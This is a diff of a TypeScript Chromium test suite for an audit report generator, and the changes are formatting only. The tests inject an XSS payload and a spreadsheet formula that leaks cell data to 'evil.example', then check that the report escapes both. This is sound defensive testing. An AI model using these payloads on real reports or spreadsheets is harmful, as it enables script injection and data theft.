@@ -29,7 +29,12 @@ const CHROMIUM_ARGS = [
 
 const XSS = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>';
 
-async function reportFile(db: Executor, dir: string, name: string, opts: ReportOptions): Promise<{ path: string; summary: ReportSummary }> {
+async function reportFile(
+  db: Executor,
+  dir: string,
+  name: string,
+  opts: ReportOptions,
+): Promise<{ path: string; summary: ReportSummary }> {
   const path = join(dir, name);
   const out = createWriteStream(path);
   const summary = await writeReport(db, opts, out);
@@ -57,7 +62,10 @@ describe('audit report in Chromium', { timeout: 60_000 }, () => {
 
   beforeAll(async () => {
     dir = mkdtempSync(join(tmpdir(), 'steward-report-'));
-    [t, browser] = await Promise.all([createTestDatabase(), chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS })]);
+    [t, browser] = await Promise.all([
+      createTestDatabase(),
+      chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS }),
+    ]);
     s = await seedScenario(t.db);
     // A reviewer's reason and a key name trying to inject markup.
     await appendAudit(t.db, {
@@ -66,7 +74,10 @@ describe('audit report in Chromium', { timeout: 60_000 }, () => {
       subject: { type: 'api_key', id: 'apikey_xss' },
       reviewItemId: 'ri_xss',
       outcome: 'keep',
-      evidence: makeEvidence({ subject: { type: 'api_key', id: 'apikey_xss', label: XSS } }) as unknown as Record<string, unknown>,
+      evidence: makeEvidence({ subject: { type: 'api_key', id: 'apikey_xss', label: XSS } }) as unknown as Record<
+        string,
+        unknown
+      >,
       details: { decision: 'keep', reason: XSS },
       at: new Date('2025-03-15T00:00:00Z'),
     });
@@ -93,7 +104,8 @@ describe('audit report in Chromium', { timeout: 60_000 }, () => {
       const total = byOutcome.reduce((a, r) => a + Number(r.n), 0);
       expect(total).toBe(s.march.length + 1);
       expect(Number(await text(page, '[data-count="decisions"]'))).toBe(total);
-      for (const r of byOutcome) expect(Number(await text(page, `[data-count-decision="${r.outcome}"]`)), r.outcome).toBe(Number(r.n));
+      for (const r of byOutcome)
+        expect(Number(await text(page, `[data-count-decision="${r.outcome}"]`)), r.outcome).toBe(Number(r.n));
       expect(await page.locator('[data-count-decision]').count()).toBe(byOutcome.length);
 
       const items = new Set([...s.march.map((d) => d.reviewItemId), 'ri_xss']);
@@ -101,7 +113,8 @@ describe('audit report in Chromium', { timeout: 60_000 }, () => {
 
       const actions: Record<string, number> = { none: 1 }; // the injected decision has no action
       for (const d of s.march) actions[d.action?.outcome ?? 'none'] = (actions[d.action?.outcome ?? 'none'] ?? 0) + 1;
-      for (const [k, n] of Object.entries(actions)) expect(Number(await text(page, `[data-count-action="${k}"]`)), k).toBe(n);
+      for (const [k, n] of Object.entries(actions))
+        expect(Number(await text(page, `[data-count-action="${k}"]`)), k).toBe(n);
 
       const [rows] = await queryRows<{ n: number | string; head: string }>(
         t.db,
@@ -138,7 +151,9 @@ describe('audit report in Chromium', { timeout: 60_000 }, () => {
       expect(await page.locator('body script, body img').count()).toBe(0);
       const article = page.locator('article[data-review-item="ri_xss"]');
       expect(await article.locator('h3').innerText()).toContain(XSS);
-      expect(await page.locator('article[data-review-item="ri_evil"]').innerText()).toContain('=HYPERLINK("http://evil.example/?x="&A1,"click")');
+      expect(await page.locator('article[data-review-item="ri_evil"]').innerText()).toContain(
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      );
     } finally {
       await page.close();
     }
@@ -164,7 +179,10 @@ describe('audit report of a tampered chain', { timeout: 60_000 }, () => {
   let dir: string;
   beforeAll(async () => {
     dir = mkdtempSync(join(tmpdir(), 'steward-report-'));
-    [t, browser] = await Promise.all([createTestDatabase(), chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS })]);
+    [t, browser] = await Promise.all([
+      createTestDatabase(),
+      chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS }),
+    ]);
   });
   afterAll(async () => {
     await browser?.close();
